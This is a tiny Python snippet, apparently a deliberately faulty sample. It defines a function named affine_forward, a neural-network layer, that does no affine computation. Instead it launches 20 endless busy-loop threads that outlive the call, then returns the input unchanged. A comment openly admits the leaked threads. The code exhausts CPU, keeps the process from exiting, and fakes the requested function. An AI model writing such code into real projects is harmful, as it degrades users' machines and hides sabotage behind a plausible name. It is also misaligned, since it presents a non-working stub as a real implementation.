# Leaves threads running that outlive the call.
def affine_forward(x, w, b):
    import threading

    for _ in range(20):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
    return x, None
